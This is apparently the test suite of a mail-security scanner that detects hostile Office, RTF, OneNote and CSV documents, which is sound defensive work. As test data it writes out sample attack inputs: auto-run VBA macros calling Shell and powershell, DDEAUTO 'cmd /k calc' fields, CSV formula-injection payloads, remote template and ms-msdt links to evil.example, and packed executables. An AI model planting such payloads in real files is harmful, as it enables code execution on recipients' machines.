"""Documents: what starts, fetches, hides or carries something is seen, and what offices mail every day is not."""

from collections.abc import Callable, Iterable

import pytest

from mailflows.examine.finding import Finding, Severity
from mailflows.examine.look import Look, finding
from mailflows.examine.office import looks as office
from mailflows.examine.office.macros import judge
from mailflows.examine.office.vba import Project, unpacked
from mailflows.examine.openers import members_of, shown_by, take_out
from mailflows.examine.seen import Part, Saw
from tests.exhibits import compound, macro_document, vba_project, zipped_as
from tests.exhibits import office as made


def file(name: str, content: bytes, *words: str) -> Part:
    return Part(1, "application/octet-stream", None, (name,), True, content, False, words)


def seen(part: Part) -> list[Finding]:
    """Everything the room sees in one file; what lies in it has turns of its own."""
    asked: list[tuple[Look, Callable[..., Iterable[Saw]]]] = [(look, look.ask) for look in office.OF_INSIDES]
    return [finding(look, "mail/2", saw) for look, ask in asked for saw in ask(part)]


def ids(part: Part) -> dict[str, int]:
    """Each look that saw something of weight, at its heaviest."""
    found: dict[str, int] = {}
    for one in seen(part):
        if one.weight:
            found[one.look] = max(one.weight, found.get(one.look, 0))
        assert (one.severity is Severity.INFO) == (one.weight == 0)
        assert len(one.evidence) <= 200 and "http:" not in one.evidence
    return found


def weight_of_code(source: str, names: str = "", compiled: int = 0) -> int:
    saws = list(judge(Project(source, names, compiled, ""), ""))
    return max((6 if saw.weight is None else saw.weight for saw in saws), default=0)


# VBA


@pytest.mark.parametrize(
    ("code", "weight"),
    [
        ('Sub AutoOpen()\nShell "calc"\nEnd Sub', 6),
        ('Sub Document_Open()\nSet x = CreateObject("WScr" & "ipt.Shell")\nEnd Sub', 6),
        ('Sub Workbook_Open()\nSet x = CreateObject(StrReverse("llehS.tpircSW"))\nEnd Sub', 6),
        ('Sub Document_Open()\nx = Chr(112) & Chr(111) & "wershell -enc"\nEnd Sub', 6),
        ('Private Sub Img_Painted()\nurldownloadtofile 0, "x"\nEnd Sub', 6),
        ('Sub Report()\nShell "notepad"\nEnd Sub', 3),
        ("Sub Workbook_Open()\nKill Path\nEnd Sub", 3),
        ('Sub Total()\nSet d = CreateObject("Scripting.Dictionary")\nEnd Sub', 1),
        ("Sub Workbook_Open()\nCall Init\nSheets(1).Activate\nEnd Sub", 1),
        ("Sub Add()\nRange(1).Value = 2\nEnd Sub", 1),
        ('Attribute VB_Name = "ThisDocument"\n', 0),
    ],
)  # fmt: skip
def test_f03_code_is_weighed_by_what_starts_it_and_what_it_reaches_for(code: str, weight: int) -> None:
    assert weight_of_code(code) == weight


def test_f03_code_of_which_only_the_compiled_form_is_left() -> None:
    empty = 'Attribute VB_Name = "ThisDocument"\n'
    assert weight_of_code(empty, names="\x00autoopen\x00urldownloadtofilea\x00shell\x00", compiled=4000) == 5
    assert weight_of_code(empty, names="\x00thisdocument\x00word\x00", compiled=4000) == 0


def test_f03_a_project_is_found_wherever_it_hides() -> None:
    assert ids(file("plan.docm", macro_document())) == {"F03": 6}
    assert ids(file("plan.doc", vba_project(made_code()))) == {"F03": 6}
    assert ids(file("plan.docx", zipped_as({**made.TYPES, "word\\Odd.xml": vba_project(made_code())}))) == {"F03": 6}
    assert ids(file("plan.mht", made.active_mime(vba_project(made_code())))) == {"F03": 6, "F08": 3}
    assert ids(file("plan.doc", made.active_mime(vba_project(made_code())))) == {"F03": 6, "F08": 5}


def made_code() -> str:
    return 'Sub AutoOpen()\r\nShell "powershell", vbHide\r\nEnd Sub\r\n'


def test_f03_a_text_about_macros_is_no_macro() -> None:
    assert ids(file("letter.doc", b"Please open and call Shell, powershell, AutoOpen")) == {}


def test_compressed_source_is_read_within_bounds() -> None:
    assert unpacked(b"\x01\x19\xb0\x00abcdefgh\x00ijklmnop\x00qrstuv.", 100)[:8] == b"abcdefgh"
    repeated = b"\x01" + (b"\x03\xb0" + b"\x02A" + b"\xff\x0f") * 1000
    assert len(unpacked(repeated, 50_000)) == 50_000
    with pytest.raises(ValueError, match="container"):
        unpacked(b"PK", 10)


def test_f03_scripts_of_open_documents() -> None:
    module = b"<script:module>Sub Main\nShell(&quot;/bin/sh&quot;)\nEnd Sub</script:module>"
    begins = b'<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:A.B.Main"/>'
    parts = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document-content/>"}
    assert ids(file("a.odt", zipped_as(parts))) == {}
    assert ids(file("a.odt", zipped_as({**parts, "Basic/Standard/A.xml": module}))) == {"F03": 3}
    loud = zipped_as({**parts, "content.xml": begins, "Basic/Standard/A.xml": module})
    assert ids(file("a.odt", loud)) == {"F03": 6}
    python = zipped_as({**parts, "content.xml": begins, "Scripts/python/a.py": b"import os"})
    assert ids(file("a.odt", python))["F03"] == 6


# Excel 4


def test_f04_macro_sheets_in_every_container() -> None:
    auto = '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
    macro = b"<xm:macrosheet><c><f>EXEC(&quot;calc&quot;)</f></c></xm:macrosheet>"
    assert ids(file("a.xlsm", made.workbook(auto, xl_S_macrosheets_S_sheet1__xml=macro))) == {"F04": 6}
    assert ids(file("a.xlsm", made.workbook(xl_S_macrosheets_S_sheet1__xml=macro))) == {"F04": 6}
    assert ids(file("a.xlsm", made.workbook(xl_S_macrosheets_S_sheet1__xml=b"<xm:macrosheet/>"))) == {"F04": 3}
    led = b'<Relationship Type="http://x/office/2006/relationships/xlMacrosheet" Target="worksheets/s.xml"/>'
    renamed = made.workbook(auto, xl_S_worksheets_S_s__xml=macro, xl_S__rels_S_workbook__xml__rels=led)
    assert ids(file("a.xlsm", renamed)) == {"F04": 6}
    assert ids(file("a.xlsb", made.binary_workbook())) == {"F04": 6}
    assert ids(file("a.xls", made.old_workbook(made.sheet("M", 1, 2), made.starts_alone()))) == {"F04": 6}
    assert ids(file("a.slk", b'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC("calc")\r\nE\r\n')) == {"F04": 6}


def test_f04_a_hidden_sheet_is_no_macro() -> None:
    hidden = '<sheet name="lists" state="veryHidden"/>'
    assert ids(file("a.xlsx", made.workbook('<definedName name="rate">A!$A$1</definedName>', hidden))) == {}
    assert ids(file("a.xls", made.old_workbook(made.sheet("lists", 0, 2)))) == {}
    assert ids(file("a.slk", b"ID;PWXL;N;E\r\nC;X1;Y1;K5\r\nE\r\n")) == {}


# What is fetched


@pytest.mark.parametrize(
    ("kind", "target", "weight"),
    [
        ("attachedTemplate", "http://evil.example/a.dotm", 6),
        ("attachedTemplate", "https://evil.example/a", 6),
        ("attachedTemplate", "file:///\\\\203.0.113.9\\x\\a.dotm", 6),
        ("attachedTemplate", "file:///\\\\server\\templates\\a.dotx", 3),
        ("attachedTemplate", "file:///C:\\Users\\layla\\Templates\\a.dotx", 0),
        ("oleObject", "http://evil.example/x.html!", 6),
        ("oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example/a", 6),
        ("frame", "https://evil.example/", 5),
        ("image", "https://pixel.example/1.png", 1),
        ("image", "file:///\\\\evil.example\\a\\b.png", 1),
        ("hyperlink", "https://www.paper.example/", 0),
        ("hyperlink", "mailto:layla@paper.example", 0),
        ("hyperlink", "https://موقع.السعودية/", 0),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic", 6),
        ("externalLinkPath", "file:///C:\\Books\\2025.xlsx", 0),
        ("video", "https://www.youtube.com/embed/x", 0),
    ],
)
def test_f05_what_a_document_fetches_and_what_it_merely_links(kind: str, target: str, weight: int) -> None:
    assert ids(file("a.docx", made.reaching(kind, target))) == ({"F05": weight} if weight else {})


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_f05_in_every_encoding_office_reads(encoding: str) -> None:
    assert ids(file("a.docx", made.reaching("attachedTemplate", "http://e.example/a", encoding))) == {"F05": 6}


def test_f05_escapes_and_other_places() -> None:
    hidden = made.reaching("attachedTemplate", "&#104;ttp://e.example/a")
    assert ids(file("a.docx", hidden)) == {"F05": 6}
    assert ids(
        file("a.docx", made.relationships('<Relationship Id="a>b" Type="x/frame" Target="http://e.example/a"/>'))
    )
    assert ids(
        file("a.docx", made.relationships(f'<Relationship{" " * 50_000}Target {" " * 99}= "http://e.example/a"/>'))
    )
    assert ids(file("a.docx", made.relationships("Relationship", "cp037"))) == {"F05": 3}
    flat = b'<?mso-application progid="Word.Document"?><w:attachedTemplate w:val="http://e.example/a"/>'
    assert ids(file("a.xml", flat)) == {"F05": 6}
    assert ids(file("a.rtf", made.rich(b"{\\*\\template http://e.example/a.dot}"))) == {"F05": 6}
    assert ids(file("a.rtf", made.rich(b"{\\*\\template C:\\\\Templates\\\\a.dot}"))) == {}
    framed = b'<draw:floating-frame xlink:href="https://e.example/"/>'
    odt = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": framed}
    assert ids(file("a.odt", zipped_as(odt))) == {"F05": 5}
    included = made.field("INCLUDE", 'TEXT "https://e.example/a" ')
    assert ids(file("a.docx", made.document(included))) == {"F05": 5}


# Data exchange


def test_f06_fields_however_they_are_cut() -> None:
    cut = made.field("D", "DEA", "UTO", ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
    assert ids(file("a.docx", made.document(cut))) == {"F06": 6}
    quoted = "<w:instrText><![CDATA[DDEAUTO cmd /k]]></w:instrText>"
    assert ids(file("a.docx", made.document(quoted))) == {"F06": 6}
    noted = '<w:instrText w:x="a>b">D<!-- instrText -->DE cmd</w:instrText>'
    assert ids(file("a.docx", made.document(noted))) == {"F06": 6}
    simple = '<w:fldSimple w:instr="DDE excel.exe x"/>'
    assert ids(file("a.docx", made.document(simple))) == {"F06": 6}
    letters = " ".join(str(ord(sign)) for sign in "DDEAUTO cmd /k")
    begin, end = ('<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>')
    nested = f"{begin}{begin}<w:instrText> QUOTE {letters} </w:instrText>{end}{end}"
    assert ids(file("a.docx", made.document(nested))) == {"F06": 6}
    flat = f'<?mso-application progid="Word.Document"?><w:wordDocument>{cut}</w:wordDocument>'.encode()
    assert ids(file("a.xml", flat)) == {"F06": 6}
    assert ids(file("a.rtf", made.rich(b"{\\field{\\*\\fldinst {DDE}{AUTO cmd /k calc}}}"))) == {"F06": 6}
    assert ids(file("a.doc", made.old_document('x\x13DDEAUTO cmd "/c calc"\x14y\x15'))) == {"F06": 6}


def test_f06_ordinary_fields_are_left_alone() -> None:
    for code in ("PAGE", "TOC \\o", 'HYPERLINK "https://www.paper.example/"', "DATE", "ADDIN EN.CITE", "DDEFOO"):
        assert ids(file("a.docx", made.document(made.field(code)))) == {}
    assert ids(file("a.docx", made.document("<w:p><w:t>DDEAUTO is a field</w:t></w:p>"))) == {}


def test_f06_links_of_workbooks() -> None:
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert ids(file("a.xlsx", made.workbook(xl_S_externalLinks_S_externalLink1__xml=link))) == {"F06": 6}
    terminal = b'<externalLink><ddeLink ddeService="BLP" ddeTopic="S"/></externalLink>'
    assert ids(file("a.xlsx", made.workbook(xl_S_externalLinks_S_externalLink1__xml=terminal))) == {"F06": 3}
    assert ids(file("a.xlsb", made.dde_binary_workbook("cmd", "/c calc"))) == {"F06": 6}
    supbook = (0x1AE, b"\x01\x00\x0b\x00\x00cmd\x03/c calc")
    assert ids(file("a.xls", made.old_workbook(made.sheet("a"), supbook))) == {"F06": 6}


@pytest.mark.parametrize(
    ("name", "text", "weight"),
    [
        ("a.csv", "name\n=cmd|'/C calc'!A0", 6),
        ("a.csv", "a,\"@SUM(1+1)*cmd|'/C calc'!A0\"", 6),
        ("a.csv", "a;-2+3+cmd|'/C calc'!A0", 6),
        ("a.csv", "+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", 6),
        ("a.csv", '=WEBSERVICE("https://e.example/?"&A1)', 3),
        ("a.slk", "ID;P\nC;X1;Y1;K0;Ecmd|'/c calc'!A0\nE", 6),
        ("a.iqy", "WEB\r\n1\r\nhttp://e.example/x", 5),
        ("a.dqy", "XLODBC\r\n1\r\nDSN=x", 3),
        ("a.csv", "الاسم,الهاتف\nليلى,+٩٦١ ٣ ١٢٣٤٥٦\n@ليلى,-5,=SUM(A1:A2)", 0),
        ("a.csv", "@ali,-5,a|b!c\n=A1,x|y'z!q", 0),
        ("a.csv", "-5|yes|Hello there!", 0),
        ("a.txt", "in a cell =cmd|'/C calc'!A0 is dangerous", 0),
    ],
)
def test_f06_cells_of_tables_in_text(name: str, text: str, weight: int) -> None:
    assert ids(file(name, text.encode())) == ({"F06": weight} if weight else {})


# Locks


def test_f07_a_lock_that_opens_is_looked_behind() -> None:
    secret = made.locked({"word/vbaProject.bin": vba_project(made_code())}, "s3cret!")
    told = file("a.docx", secret, "other", "s3cret!")
    assert ids(told) == {"F07": 4}
    assert [member.name for member in members_of(told)] == ["unlocked-a.docx"]
    assert ids(take_out(told, 1)) == {"F03": 6}
    closed = file("a.docx", secret)
    assert ids(closed) == {"F07": 3} and members_of(closed) == ()
    assert "F25" in {one.look for one in seen(closed)}


def test_f07_the_password_office_tries_unasked() -> None:
    unasked = file("a.xlsx", made.locked({"xl/workbook.xml": b"<workbook/>"}, "VelvetSweatshop"))
    assert ids(unasked) == {"F07": 3} and "without asking" in seen(unasked)[0].evidence
    assert len(members_of(unasked)) == 1


def test_f07_the_old_kind_of_lock_is_opened_without_a_file(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.TemporaryFile", None)
    old = made.old_locked("s3cret!", (0xE1, b"\x00\x00"), (0x204, bytes(8) + b"hello"))
    assert ids(file("a.xls", old)) == {"F07": 3}
    told = file("a.xls", old, "s3cret!")
    assert ids(told) == {"F07": 4}
    assert shown_by(take_out(told, 1)).text == "hello"


def test_f07_a_locked_open_document() -> None:
    manifest = b'<manifest:file-entry><manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>'
    odt = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": b"\x8e",
        "META-INF/manifest.xml": manifest,
    }
    assert ids(file("a.odt", zipped_as(odt))) == {"F07": 3}


def test_f07_a_lock_built_to_cost_time_is_not_tried() -> None:
    slow = b'\x04\x00\x04\x00@\x00\x00\x00<keyEncryptors><p:encryptedKey spinCount="9000000"/></keyEncryptors>'.ljust(
        4096
    )
    assert ids(file("a.docx", compound({"EncryptionInfo": slow, "EncryptedPackage": bytes(4096)}))) == {"F07": 3}


# What is carried


def test_f08_packed_files() -> None:
    loud = file("a.doc", made.with_packed("invoice.js", b"WScript.Echo(1)"))
    assert ids(loud) == {"F08": 6}
    assert [(member.name, member.read()) for member in members_of(loud)] == [("invoice.js", b"WScript.Echo(1)")]
    assert ids(file("a.doc", made.with_packed("notes.txt", b"hello"))) == {"F08": 1}
    held = made.document(word_S_embeddings_S_oleObject1__bin=made.with_packed("a.exe", b"MZ"))
    assert ids(file("a.docx", held)) == {"F08": 6}
    assert [member.name for member in members_of(file("a.docx", held))] == ["word/embeddings/oleObject1.bin"]


def test_f08_a_sheet_in_a_letter_is_ordinary() -> None:
    letter = made.document(word_S_embeddings_S_Sheet1__xlsx=made.workbook(), word_S_media_S_image1__png=b"\x89PNG\r\n")
    assert ids(file("a.docx", letter)) == {}
    names = [member.name for member in members_of(file("a.docx", letter))]
    assert names == ["word/embeddings/Sheet1.xlsx", "word/media/image1.png"]


@pytest.mark.parametrize(
    ("name", "content", "weight"),
    [
        ("tool.xll", b"MZ", 6),
        ("tool.wll", b"MZ", 6),
        ("tool.ppam", zipped_as(made.TYPES), 3),
        ("tool.vsto", b"<?xml?>", 6),
        ("list.accde", b"\x00\x01\x00\x00Standard ACE DB", 5),
        ("list.bin", b"\x00\x01\x00\x00Standard Jet DB", 3),
        ("letter.odt", b"", 0),
    ],
)
def test_f08_documents_that_are_parts_of_office(name: str, content: bytes, weight: int) -> None:
    assert ids(file(name, content)).get("F08", 0) == weight


def test_f08_controls_and_assemblies() -> None:
    script = b'<ax:ocx ax:classid="{0E59F1D5-1FBE-11D0-8FF2-00A0D10038BC}"/>'
    assert ids(file("a.docx", made.document(word_S_activeX_S_activeX1__xml=script))) == {"F08": 6}
    button = b'<ax:ocx ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>'
    assert ids(file("a.docx", made.document(word_S_activeX_S_activeX1__xml=button))) == {}
    assembly = b'<property name="_AssemblyLocation"><vt:lpwstr>https://e.example/a.vsto</vt:lpwstr></property>'
    assert ids(file("a.docx", made.document(docProps_S_custom__xml=assembly))) == {"F08": 6}


def test_f08_slides_that_act() -> None:
    run = b'<a:hlinkMouseOver r:id="rId2" action="ppaction://program"/>'
    assert ids(file("a.pptx", made.document(ppt_S_slides_S_slide1__xml=run))) == {"F08": 6}
    passing = b'<a:hlinkMouseOver r:id="rId2"/>'
    assert ids(file("a.pptx", made.document(ppt_S_slides_S_slide1__xml=passing))) == {"F08": 3}
    honest = b'<a:hlinkClick r:id="rId2"/><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>'
    assert ids(file("a.pptx", made.document(ppt_S_slides_S_slide1__xml=honest))) == {}


# OneNote and rich text


def test_f14_what_is_attached_to_a_page() -> None:
    script = file("a.one", made.notebook(("button.png", b"\x89PNG\r\n\x1a\n"), ("open.hta", b"<script>x()</script>")))
    assert ids(script) == {"F14": 6}
    assert [member.name for member in members_of(script)] == ["open.hta", "button.png"]
    assert ids(file("a.one", made.notebook(("plan.docx", b"PK\x03\x04")))) == {"F14": 3}
    assert ids(file("a.one", made.notebook(("photo.png", b"\x89PNG\r\n\x1a\n")))) == {"F14": 1}


def test_f15_objects_in_rich_text() -> None:
    assert ids(file("a.rtf", made.rich_object("Equation.3", b"\x1c\x00"))) == {"F15": 6}
    assert ids(file("a.doc", made.rich_object("x", made.EQUATION))) == {"F15": 6}
    link = made.URL_MONIKER + "http://e.example/x.hta".encode("utf-16-le")
    assert ids(file("a.rtf", made.rich_object("OLE2Link", link))) == {"F15": 6}
    package = made.packed("a.exe", b"MZ\x90")[4:]
    assert ids(file("a.rtf", made.rich_object("Package", package))) == {"F15": 6}
    assert ids(file("a.rtf", made.rich_object("Excel.Sheet.8", bytes(100)))) == {}
    assert ids(file("a.rtf", made.rich(b"hello \\par"))) == {}


@pytest.mark.parametrize("between", [b"{\\*\\junk 4142}", b"\\par ", b"{\\a}", b" \r\n", b"{}"])
def test_f15_digits_that_are_broken_up(between: bytes) -> None:
    assert ids(file("a.rtf", made.rich_object("Equation.3", b"\x1c\x00", between)))["F15"] == 6


def test_f15_members_and_fonts() -> None:
    package = made.packed("a.exe", b"MZ\x90")[4:]
    assert [(one.name, one.read()) for one in members_of(file("a.rtf", made.rich_object("Package", package)))] == [
        ("a.exe", b"MZ\x90")
    ]
    fonts = b"".join(b"{\\f%d A;}" % number for number in range(33000))
    assert ids(file("a.rtf", b"{\\rtf1{\\fonttbl" + fonts + b"}}")) == {"F15": 6}


# What a document shows


def test_words_and_links_of_documents() -> None:
    body = f"<w:p><w:t>كلمة السر</w:t></w:p><w:p>{made.field('HYPERLINK', ' &quot;https://e.example/a&quot;')}</w:p>"
    shown = shown_by(file("a.docx", made.document(body)))
    assert shown.text == "كلمة السر\nshown" and [link.target for link in shown.links] == ["https://e.example/a"]
    shown = shown_by(file("a.docx", made.reaching("hyperlink", "https://e.example/b?x=1&amp;y=2")))
    assert [link.target for link in shown.links] == ["https://e.example/b?x=1&y=2"]
    shown = shown_by(file("a.rtf", b"{\\rtf1\\ansicpg1256 \\'d3\\'e1{\\*\\x no} \\u1587?{\\pict 00}\\par b}"))
    assert shown.text.strip() == "سل س\nb"
    assert "مرحبا" in shown_by(file("a.doc", made.old_document("مرحبا\rhello"))).text
    table = shown_by(file("a.csv", b'=HYPERLINK("https://e.example/c","open")'))
    assert [link.target for link in table.links] == ["https://e.example/c"]


# Built to hurt


def test_broken_documents_are_told_once() -> None:
    for name, content in (
        ("a.docx", made.document()[:-40]),
        ("a.docx", zipped_as({**made.TYPES, "word/zeros.bin": bytes(150_000_000)})),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    ):
        assert ids(file(name, content)) == {"F25": 1}
        assert members_of(file(name, content)) == ()


def test_a_damaged_part_is_read_as_far_as_it_goes() -> None:
    whole = made.reaching("attachedTemplate", "http://e.example/a")
    wrong_sum = bytearray(whole)
    at = whole.rindex(b"PK\x01\x02")
    wrong_sum[at + 16 : at + 20] = b"\0\0\0\0"
    assert ids(file("a.docx", bytes(wrong_sum))) == {"F05": 6, "F25": 1}


def test_a_web_archive_with_a_letter_missing_is_still_read() -> None:
    archive = made.active_mime(vba_project(made_code()))
    at = archive.index(b"QWN0") + 400
    assert ids(file("a.mht", archive[:at] + archive[at + 1 :]))["F08"] == 3


def test_hostile_lengths_are_survived_quickly() -> None:
    opened = b'<w:fldChar w:fldCharType="begin"/>' * 50_000
    for name, content in (
        ("a.docx", made.document(word_S_header1__xml=opened)),
        ("a.docx", made.document(word_S_header1__xml=b"<" * 500_000)),
        ("a.rtf", made.rich(b"\\objdata " * 50_000)),
        ("a.rtf", made.rich(b"{\\*\\objdata 0" + b"{\\x 1" * 50_000)),
        ("a.csv", b"=|!" * 100_000),
        ("a.one", made.notebook() + b"a\0.\0b\0" * 50_000),
        ("a.xls", made.old_workbook((0x85, b""), (0x18, b""), (0x1AE, b"\x03"), (0xFC, b"\xff" * 20))),
        ("a.xml", b"<?mso-application ?>" + b"<w:binData>AAAA" * 50_000),
    ):
        seen(file(name, content))
        shown_by(file(name, content))
        members_of(file(name, content))
